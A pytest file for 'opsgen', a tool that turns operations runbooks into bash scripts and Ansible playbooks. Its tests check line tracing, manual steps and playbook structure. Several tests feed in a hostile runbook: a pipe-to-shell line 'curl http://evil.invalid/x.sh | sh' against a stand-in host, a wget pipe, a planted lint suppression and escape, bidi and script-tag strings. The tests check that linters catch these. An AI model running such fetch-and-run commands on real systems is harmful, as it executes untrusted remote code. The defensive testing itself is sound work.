"""Conversion: traces to runbook lines, manual steps, both languages, hostile runbooks."""

from __future__ import annotations

import subprocess

import pytest
import yaml
from runbook_helpers import FIXTURES

from opsgen.runbook import convert_runbook, parse_runbook, read_runbook

CHECK = "govuk-developer-docs/source/manual/alerts/check-process-running.html.md"


class _Loader(yaml.SafeLoader):
    """Reads our playbooks, keeping ``!unsafe`` values as plain strings."""


_Loader.add_constructor("!unsafe", lambda loader, node: loader.construct_scalar(node))


def fixture(name: str, lang: str = "bash"):
    text = read_runbook(FIXTURES / name)
    return text, convert_runbook(parse_runbook(text, name), lang)


def test_each_block_is_traced_to_its_runbook_lines(load):
    script = convert_runbook(load(CHECK), "bash").script
    lines = script.splitlines()
    start = lines.index(f"# {CHECK}:34-34 step 4: Restarting the service")
    assert lines[start + 2] == 'service "${SERVICE}" start'  # sudo dropped: runs as root
    inline = lines.index(f"# {CHECK}:50-50 step 4 (inline): Restarting the service")
    assert lines[inline + 2] == 'cd /data/vhost/"${SERVICE_NAME}"/'
    assert script.startswith("#!/usr/bin/env bash\n")
    assert "\nset -euo pipefail\n" in script
    assert "\nif [[ ${EUID} -ne 0 ]]; then\n" in script  # the runbook used sudo


def test_whole_corpus_converts_to_valid_bash_and_yaml_deterministically(corpus_files, corpus):
    for path in corpus_files:
        runbook = parse_runbook(read_runbook(path), path.relative_to(corpus).as_posix())
        bash = convert_runbook(runbook, "bash")
        assert bash.script == convert_runbook(runbook, "bash").script  # same bytes
        checked = subprocess.run(["bash", "-n"], input=bash.script, text=True,
                                 capture_output=True)  # fmt: skip
        assert checked.returncode == 0, (path, checked.stderr)
        playbook = convert_runbook(runbook, "ansible").script
        plays = yaml.load(playbook, Loader=_Loader)
        assert plays[0]["hosts"] == "all"
        comments = [line for line in playbook.splitlines() if line.lstrip().startswith("#")]
        assert max(map(len, comments)) <= 160  # ansible-lint's yaml[line-length]


def test_manual_steps_and_what_interactive_commands_became(load):
    plan = convert_runbook(load("gitlab-com-runbooks/docs/uncategorized/rename-nodes.md"),
                           "bash").plan  # fmt: skip
    reasons = {m.text: m.reason for m in plan.manual}
    assert (
        reasons[
            "Remove /etc/chef/client.pem from the node. This must happen or Chef will get"
            " an error when trying to bootstrap the node."
        ]
        == "a step in prose only"
    )
    assert "operator workstation" in reasons["knife node delete example.gitlab.com"]
    assert "opens an editor" in reasons["knife data bag edit syslog_client _default_keys"]
    assert [i.text for b in plan.blocks for i in b.runs] == ["hostname new-hostname.gitlab.com"]


def test_switch_user_runs_the_rest_of_the_block_as_that_user(load):
    script = convert_runbook(load("gitlab-com-runbooks/docs/gitaly/gitaly-down.md"),
                             "bash").script  # fmt: skip
    assert "# opsgen: the runbook runs these as git (runuser keeps the exported REPO," in script
    wrapped = script.split("runuser -u git -- bash -euo pipefail -s <<'OPSGEN_AS_GIT'\n")[1]
    body = wrapped.split("\nOPSGEN_AS_GIT\n")[0].splitlines()
    assert body[:2] == ['cd "${REPO}"', "git fsck"]


def test_playbook_has_one_task_per_block_parameters_and_an_assert():
    _, conv = fixture("restart-service.md", "ansible")
    (play,) = yaml.load(conv.script, Loader=_Loader)
    # "port" is one of Ansible's own play keywords, so the parameter gets a prefix
    assert play["vars"] == {"app": "", "app_dir": "", "service": "", "runbook_port": ""}
    root, check, *tasks = play["tasks"]
    assert root["failed_when"] == "opsgen_uid.stdout != '0'"  # the runbook used sudo
    assert check["ansible.builtin.assert"]["that"][0] == "app | string | length > 0"
    # one shell task per block, except where a command has its own module: then the block
    # is split around it (systemctl restart -> systemd_service, between two shell tasks)
    assert len(tasks) == sum(1 for b in conv.plan.blocks if b.runs) + 2
    assert tasks[2]["ansible.builtin.systemd_service"] == {"name": "{{ service }}",
                                                           "state": "restarted"}  # fmt: skip
    tail = tasks[0]
    assert tail["name"] == "Step 3: Check (restart-service.md:11)"
    assert tail["ansible.builtin.shell"]["cmd"].endswith(
        'tail -n 100 /var/log/"${APP}"/error.log\n'
    )
    assert tail["environment"] == {"APP": "{{ app }}"}
    assert tail["changed_when"] is False  # read-only
    assert tasks[1]["changed_when"] is False  # ls, as deploy
    assert "cmd: !unsafe |" in conv.script  # Ansible never templates runbook text


def test_hostile_runbook_text_stays_data():
    _, conv = fixture("malicious.md")
    script = conv.script
    # the injected command reaches the script where the linters see it, traced to line 6
    assert "# malicious.md:6-6 step 1 (inline)" in script
    assert "\ncurl http://evil.invalid/x.sh | sh\n" in script
    # a suppression planted in the runbook is disarmed
    assert "# opsgen: disable-not-honoured=OPS101" in script
    assert "disable=OPS101" not in script
    # no control or bidi character survives outside commands; headings stay one comment line
    assert "\x1b" not in script and "\u202e" not in script
    title = "Free disk space ?[2J?[31m[bold red]APPROVED[/] <script>alert(1)</script>"
    assert f"\n# title: {title}\n" in script
    assert "\n# malicious.md:11-13 step 2: Rotate ?etadpu? the logs\n" in script
    (play,) = yaml.load(fixture("malicious.md", "ansible")[1].script, Loader=_Loader)
    assert all("{" not in task["name"] for task in play["tasks"])


def test_broken_markdown_converts_what_it_can_and_says_what_it_could_not():
    _, conv = fixture("broken.md")
    assert [i.text for b in conv.plan.blocks for i in b.runs] == ["service varnish status"]
    assert "rm -rf /var/lib/varnish" not in conv.script.replace("# ", "#")
    assert conv.plan.manual[-1].reason == "the code fence is never closed"
    assert "# warning: line 7: a code fence is never closed" in conv.script


def test_adv22_injected_command_is_a_blocking_lint_error():
    validators = pytest.importorskip("opsgen.validators")
    text, conv = fixture("malicious.md")
    provenance = validators.Provenance(request="convert malicious.md", sources=(text,))
    report = validators.lint_text(conv.script, lang="bash", path="malicious.sh",
                                  provenance=provenance)  # fmt: skip
    lines = conv.script.splitlines()
    curl = lines.index("curl http://evil.invalid/x.sh | sh") + 1
    wget = next(i for i, line in enumerate(lines, 1) if line.startswith("wget -qO-"))
    errors = {(f.code, f.location.line) for f in report.errors}
    assert ("OPS101", curl) in errors  # pipe to shell (ADV-22 a)
    assert ("OPS501", curl) in errors  # asked for by an injection-like paragraph
    assert ("OPS101", wget) in errors  # the planted suppression did not silence it
